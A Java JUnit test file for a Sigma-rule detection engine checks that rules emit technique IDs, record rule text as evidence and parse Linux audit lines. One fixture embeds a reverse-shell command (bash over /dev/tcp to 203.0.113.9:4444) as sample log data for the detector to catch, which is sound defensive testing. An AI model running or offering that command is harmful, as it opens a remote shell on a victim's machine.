package dev.palimpsest.processor.extract.event;

import static org.assertj.core.api.Assertions.assertThat;

import dev.palimpsest.memory.Content.Plain;
import dev.palimpsest.memory.Kind;
import dev.palimpsest.memory.Subject;
import dev.palimpsest.memory.claim.Claim.Statement;
import dev.palimpsest.processor.extract.Observations;
import dev.palimpsest.processor.extract.Observed;
import dev.palimpsest.sigma.Rule;
import dev.palimpsest.sigma.RuleFile;
import dev.palimpsest.sigma.RuleSet;
import dev.palimpsest.sigma.ShippedRules;
import dev.palimpsest.sigma.yaml.Shape;
import dev.palimpsest.sigma.yaml.Yaml;
import dev.palimpsest.sigma.yaml.YamlReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class RuleFindingsTest {

    private static final Path EXAMPLES = Path.of("../sigma/src/test/resources/dev/palimpsest/sigma/examples");

    static List<Rule> rules() {
        return ShippedRules.all();
    }

    @ParameterizedTest
    @MethodSource("rules")
    void shouldTellAStoryOfEachTechniqueOfEveryRule(Rule rule) throws Exception {
        List<Statement> stories = stories(example(rule), RuleSet.of(List.of(rule)));
        assertThat(stories).isNotEmpty();
        assertThat(stories).flatExtracting(story -> plain(story).all("threat.technique.id"))
                .containsAll(rule.techniques());
        assertThat(stories).allSatisfy(story -> {
            assertThat(plain(story).all("rule.id")).containsExactly(rule.id());
            assertThat(story.confidence()).isEqualTo(rule.story().confidence());
        });
    }

    @Test
    void shouldNameTheVeryTextOfTheRuleInTheEvidence() {
        String text = """
                title: Anything at all
                logsource: {product: windows, category: process_creation}
                detection: {s: {Image: 'C:\\a.exe'}, condition: s}
                fields: [Image, CommandLine]
                level: low
                """;
        Statement story = story(text);
        Statement changed = story(text.replace("low", "high"));
        assertThat(story.evidence().getFirst().extractor().name()).startsWith("sigma:rule-").contains("@")
                .isNotEqualTo(changed.evidence().getFirst().extractor().name());
        assertThat(plain(story).first("process.executable")).hasValue("C:\\a.exe");
        assertThat(plain(story).first("process.command_line")).as("words of others").isEmpty();
        assertThat(plain(story).categories()).containsExactly("alert");
        assertThat(plain(changed).first("event.severity")).hasValue("high");
    }

    @Test
    void shouldSaveStoriesForThePartiesTheRuleWants() {
        Rule remote = ShippedRules.all().stream().filter(rule -> rule.title().equals("Administrative share opened"))
                .filter(rule -> !rule.story().from().isEmpty()).findFirst().orElseThrow();
        RuleSet rules = RuleSet.of(List.of(remote));
        Observed own = Observations.event("windows", "event.code", "5140", "share.name", "ADMIN$", "host.name", "ws6",
                "host.ip", "10.0.0.9", "source.ip", "10.0.0.9");
        assertThat(stories(own, rules)).as("a machine that opens its own share").isEmpty();
        Observed other = Observations.event("windows", "event.code", "5140", "share.name", "ADMIN$", "host.name",
                "ws6", "source.ip", "10.0.0.7");
        assertThat(stories(other, rules)).singleElement().extracting(Statement::subject)
                .isEqualTo(Subject.parse("ip:10.0.0.7"));
    }

    @Test
    void shouldTakeLinesOfTheAuditSystemApart() {
        Observed line = Observations.event("line", "host.name", "web1", "message",
                "type=EXECVE msg=audit(1772600000.123:44): argc=3 a0=\"bash\" a1=\"-c\" "
                        + "a2=\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"");
        assertThat(stories(line, RuleSet.shipped())).flatExtracting(story -> plain(story).all("threat.technique.id"))
                .contains("T1059.004");
    }

    private static Statement story(String rule) {
        RuleFile file = RuleFile.read("a.yml", rule);
        assertThat(file.refusals()).isEmpty();
        return stories(Observations.event("sysmon", "event.code", "1", "host.name", "ws6", "process.executable",
                "C:\\a.exe", "process.command_line", "a.exe obey"), RuleSet.of(file.rules())).getFirst();
    }

    private static List<Statement> stories(Observed observed, RuleSet rules) {
        return EventClaims.of(observed, rules).stream().map(Statement.class::cast)
                .filter(claim -> claim.kind() == Kind.DETECTION).toList();
    }

    /** The rule's own example, on a machine and between addresses. */
    private static Observed example(Rule rule) throws Exception {
        String name = rule.place().substring(0, rule.place().lastIndexOf(':'));
        Yaml.Mapping example = Shape.mapping(YamlReader.read(Files.readString(EXAMPLES.resolve(name))).getFirst(),
                name);
        Yaml.Mapping fires = Shape.mapping(Shape.value(example, "fires"), "fires");
        List<String> fields = new ArrayList<>(List.of("host.name", "ws6"));
        if (fires.get("source.ip").isEmpty()) {
            fields.addAll(List.of("source.ip", "10.120.8.21"));
        }
        if (fires.get("destination.ip").isEmpty()) {
            fields.addAll(List.of("destination.ip", "10.120.8.30"));
        }
        if (name.startsWith("cloudtrail")) {
            fields.addAll(List.of("recipientAccountId", "123456789012"));
        }
        String format = Shape.required(fires, "palimpsest.format");
        for (String field : fires.entries().keySet()) {
            if (!field.equals("palimpsest.format")) {
                fields.addAll(List.of(field, Shape.required(fires, field)));
            }
        }
        return Observations.event(format, fields.toArray(String[]::new));
    }

    private static Plain plain(Statement claim) {
        return claim.content().plain().orElseThrow();
    }
}
